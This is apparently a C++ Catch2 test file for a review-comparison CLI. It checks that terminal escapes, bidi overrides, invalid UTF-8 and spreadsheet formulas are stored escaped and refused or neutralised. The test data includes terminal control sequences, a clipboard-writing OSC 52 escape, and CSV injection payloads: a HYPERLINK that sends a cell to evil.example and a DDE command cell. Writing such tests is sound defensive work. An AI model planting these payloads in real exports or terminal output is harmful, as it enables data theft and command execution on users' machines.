// Hostile text through the command line: terminal escapes, C1 controls and
// bidi overrides in every stored field are stored as given and never shown
// raw, by any view or error; invalid UTF-8, NUL bytes and oversized text
// are refused with a clear error and write nothing.
#include <filesystem>
#include <fstream>

#include <catch2/catch.hpp>

#include "support.h"

using namespace toolcmp::test;

namespace {

// OSC title, clear screen, C1 CSI, BEL, backspace, CR, DEL, and every bidi
// override and isolate.
const std::string kHostile =
    "a\x1b]0;owned\x07 b\x1b[2J c\xC2\x9B" "31m d\x08\r\x7f e\xE2\x80\xAE" "f\xE2\x80\xAA" "g\xE2\x81\xA6"
    "h\xE2\x81\xA7i\xE2\x81\xA8j\xE2\x81\xA9k";

// What a terminal would act on: C0 controls but newline, DEL, C1 controls
// (U+0080-U+009F), and the bidi embeddings, overrides and isolates.
std::string first_raw_control(const std::string& text) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    auto c = static_cast<unsigned char>(text[i]);
    auto next = [&](std::size_t k) { return i + k < text.size() ? static_cast<unsigned char>(text[i + k]) : 0; };
    bool bad = (c < 0x20 && c != '\n') || c == 0x7f || (c == 0xC2 && next(1) >= 0x80 && next(1) <= 0x9F) ||
               (c == 0xE2 && next(1) == 0x80 && next(2) >= 0xAA && next(2) <= 0xAE) ||
               (c == 0xE2 && next(1) == 0x81 && next(2) >= 0xA6 && next(2) <= 0xA9);
    if (bad) return text.substr(i > 20 ? i - 20 : 0, 40);
  }
  return "";
}

void check_clean(const std::vector<std::string>& args, const Result& r) {
  std::string shown;
  for (const std::string& arg : args) shown += arg.size() > 30 ? "<hostile> " : arg + " ";
  INFO("toolcmp " << shown);
  CHECK(first_raw_control(r.out) == "");
  CHECK(first_raw_control(r.err) == "");
}

}  // namespace

TEST_CASE("hostile text in every stored field is never shown raw, by any view") {
  Db db;
  std::string text_file = db.dir().file("text.txt");
  std::ofstream(text_file, std::ios::binary) << "from a file " << kHostile;
  const std::string tool = "Tool \xE2\x80\xAE" "evil";  // bidi in a name is allowed, and shown escaped
  const std::string persona = "Persona \xE2\x81\xA6x";
  const std::vector<std::vector<std::string>> writes = {
      {"add", tool, "--vendor", kHostile, "--category", kHostile, "--tagline", kHostile, "--description", kHostile,
       "--pricing", kHostile, "--entry", kHostile, "--license", kHostile, "--url", kHostile, "--attr",
       "params=" + kHostile},
      {"add", "Plain"},
      {"persona", "add", persona, "--focus", kHostile},
      {"review", tool, persona, "--verdict", "ship", "--score", "70", "--text", kHostile},
      {"review", tool, "Builder", "--verdict", "skip", "--text-file", text_file},
      {"review", "Plain", "Builder", "--verdict", "ship", "--text", "fine"},
      {"vote", tool, "ship", "--voter", "voter \xE2\x81\xA9x"},
      {"edit", "Plain", "--tagline", kHostile},
  };
  for (const auto& args : writes) {
    Result r = db.run(args);
    INFO(args[0] << ": " << r.err);
    CHECK(r.code == 0);
    check_clean(args, r);
  }
  const std::vector<std::vector<std::string>> reads = {
      {"show", tool},
      {"compare", tool, "Plain"},
      {"compare", tool, "Plain", "--brief"},
      {"compare", tool, "Plain", "--format", "markdown"},
      {"compare", tool, "Plain", "--width", "30"},
      {"compare", tool, "Plain", "--chart"},
      {"compare", tool, "Plain", "--format", "html"},
      {"rank", "--chart"},
      {"history", tool, "--chart"},
      {"list"},
      {"list", "--category", kHostile},
      {"rank"},
      {"history", tool},
      {"history", tool, "--persona", persona},
      {"persona", "list"},
      {"info"},
      {"export"},
      {"export", "--format", "markdown"},
      {"show", kHostile},             // an unknown name, echoed in the error
      {"review", kHostile, persona},  // likewise, and a usage error
      {"__complete", "tools"},
      {"__complete", "personas"},
  };
  for (auto args : reads) {
    check_clean(args, db.run(args));
    if (args[0] == "export" || args[0] == "__complete") continue;
    args.push_back("--json");
    check_clean(args, db.run(args));
  }
  // A published site: every page as inert as the terminal's output.
  std::string site = db.dir().file("site");
  check_clean({"publish", site, "--pair", tool + ",Plain"}, db.run({"publish", site, "--pair", tool + ",Plain"}));
  int pages = 0;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(site)) {
    if (entry.path().extension() != ".html") continue;
    INFO(entry.path());
    std::string page = read_file(entry.path().string());
    CHECK(first_raw_control(page) == "");
    CHECK(page.find("<img") == std::string::npos);
    ++pages;
  }
  CHECK(pages == 4);  // the index, two tools, the pair
  // Stored as given: the JSON holds the very text, escaped.
  Result json = db.run({"show", tool, "--json"});
  CHECK_THAT(json.out, Catch::Contains(R"(\u001b]0;owned\u0007 b\u001b[2J c\u009b31m)"));
  CHECK_THAT(db.ok({"show", tool}), Catch::Contains("^[]0;owned^G b^[[2J c<U+009B>31m"));
}

TEST_CASE("invalid UTF-8, NUL bytes and oversized text from arguments or files are refused whole") {
  Db db;
  db.ok({"add", "Plain", "-q"});
  const std::string invalid = "bad \xFF\xFE text";
  auto refused = [&](const std::vector<std::string>& args, int code, const std::string& message) {
    Result r = db.run(args);
    INFO(args[0] << " " << args[1] << ": " << r.err);
    CHECK(r.code == code);
    CHECK_THAT(r.err, Catch::StartsWith("toolcmp: error: ") && Catch::Contains(message));
    CHECK(first_raw_control(r.err) == "");
  };
  for (const char* field : {"--vendor", "--category", "--tagline", "--description", "--pricing", "--entry",
                            "--license", "--url"}) {
    refused({"edit", "Plain", field, invalid}, 2, "not valid UTF-8");
  }
  refused({"edit", "Plain", "--attr", "k=" + invalid}, 2, "not valid UTF-8");
  refused({"add", invalid}, 2, "not valid UTF-8");
  refused({"persona", "add", "Sec", "--focus", invalid}, 2, "not valid UTF-8");
  refused({"review", "Plain", "Builder", "--verdict", "ship", "--text", invalid}, 2, "not valid UTF-8");
  refused({"vote", "Plain", "ship", "--voter", invalid}, 2, "not valid UTF-8");
  refused({"add", "   "}, 2, "needs at least one letter or digit");
  refused({"edit", "Plain", "--tagline", std::string(70 << 10, 'x')}, 2, "the limit is 65536");

  auto file_with = [&](const std::string& name, const std::string& content) {
    std::string path = db.dir().file(name);
    std::ofstream(path, std::ios::binary) << content;
    return path;
  };
  refused({"review", "Plain", "Builder", "--verdict", "ship", "--text-file", file_with("nul.txt", std::string("a\0b", 3))},
          2, "NUL");
  refused({"review", "Plain", "Builder", "--verdict", "ship", "--text-file", file_with("bad.txt", invalid)}, 2,
          "not valid UTF-8");
  refused({"review", "Plain", "Builder", "--verdict", "ship", "--text-file",
           file_with("huge.txt", std::string(10 << 20, 'x'))},
          2, "the limit is 1048576");
  Result info = db.run({"info", "--json"});
  CHECK_THAT(info.out, Catch::Contains(R"("reviews": 0)") && Catch::Contains(R"("personas": 4)"));
  CHECK_THAT(db.ok({"show", "Plain", "--json"}), Catch::Contains(R"("vendor": null)"));
}

TEST_CASE("shell completion leaves out names a terminal would act on or a reader could not see", "[sqlite]") {
  Db db;
  db.ok({"add", "Safe Tool", "--category", "Dev\x1b]52;c;cHduZWQ=\x07", "-q"});
  db.ok({"add", "Safe Other", "--category", "Plain", "-q"});
  // A zero-width space: toolcmp strips it from names, so a file it did not write.
  exec_sql(db.path(), "INSERT INTO tool (name, name_key, loose_key, created_at, updated_at) VALUES "
                      "('Sa\xE2\x80\x8B" "fe Hidden', 'sa\xE2\x80\x8B" "fe hidden', 'safehidden', '2026-11-01', '2026-11-01')");
  db.ok({"add", "Sa\xE2\x80\xAE" "fe Flipped", "-q"});  // a bidi override
  Result tools = run({"__complete", "tools", "Sa"}, "C.UTF-8", {{"TOOLCMP_DB", db.path()}});
  CHECK(tools.out == "Safe Other\nSafe Tool\n");
  Result categories = run({"__complete", "words", "list", "--category", ""}, "C.UTF-8", {{"TOOLCMP_DB", db.path()}});
  CHECK(first_raw_control(categories.out).empty());
  CHECK_THAT(categories.out, Catch::Contains("Plain"));
  CHECK_THAT(categories.out, !Catch::Contains("Dev"));
}

TEST_CASE("CSV export guards cells a spreadsheet would run and imports them back exactly") {
  Db db;
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
  db.ok({"add", formula, "--vendor", "+cmd|'/c calc'!A0", "--tagline", "'=already quoted", "--pricing", "-5 a month",
         "-q"});
  std::string csv = db.ok({"export", "--format", "csv"});
  CHECK_THAT(csv, Catch::Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""));
  CHECK_THAT(csv, Catch::Contains(",'+cmd|'/c calc'!A0,"));
  CHECK_THAT(csv, Catch::Contains(",''=already quoted,"));
  CHECK_THAT(csv, Catch::Contains(",'-5 a month,"));
  std::string raw = db.ok({"export", "--format", "csv", "--keep-formulas"});
  CHECK_THAT(raw, Catch::Contains(",+cmd|'/c calc'!A0,"));

  Db copy;
  std::string file = db.dir().file("tools.csv");
  std::ofstream(file) << csv;
  copy.ok({"import", file, "-q"});
  CHECK(copy.ok({"export", "--format", "csv"}) == csv);
  CHECK_THAT(copy.ok({"show", formula, "--json"}), Catch::Contains("\"vendor\": \"+cmd|'/c calc'!A0\""));
}

TEST_CASE("a row holding a value toolcmp never writes is a damaged file: exit 3 naming the row", "[sqlite]") {
  Db db;
  db.load_acceptance_panel();
  db.ok({"vote", "Mistral 3B", "ship", "--voter", "ana"});
  // Written past the CHECK constraints, as another program could.
  exec_sql(db.path(),
           "PRAGMA ignore_check_constraints = ON;"
           "UPDATE review SET verdict = 'maybe' WHERE id = 2;"
           "UPDATE review SET score = 1099511627776 WHERE id = 5;");
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"list"}, {"rank", "--json"}, {"compare", "Code Llama 4", "Mistral 3B"},
        {"show", "Code Llama 4"}, {"export"}}) {
    INFO(args.front());
    Result result = db.run(args);
    CHECK(result.code == 3);
    CHECK_THAT(result.err, Catch::Matchers::Contains("review ") &&
                               Catch::Matchers::Contains("was changed outside toolcmp"));
  }
  Result score = db.run({"show", "Mistral 3B"});
  CHECK(score.code == 3);
  CHECK_THAT(score.err, Catch::Matchers::Contains("review 5 has score 1099511627776"));

  // --keep-going saves every readable row and names the two it left out.
  Result kept = db.run({"export", "--keep-going", "-o", db.dir().file("kept.jsonl")});
  CHECK(kept.code == 3);
  CHECK_THAT(kept.err, Catch::Matchers::Contains("review 2 has verdict 'maybe'") &&
                           Catch::Matchers::Contains("review 5 has score 1099511627776") &&
                           Catch::Matchers::Contains("left out 2 damaged rows"));
  std::string saved = read_file(db.dir().file("kept.jsonl"));
  CHECK_THAT(saved, Catch::Matchers::Contains("\"voter\":\"ana\""));
  Db restored;
  Result back = restored.run({"import", db.dir().file("kept.jsonl")});
  CHECK(back.code == 0);
  CHECK_THAT(restored.ok({"history", "Code Llama 4", "--json"}), !Catch::Matchers::Contains("maybe"));
}
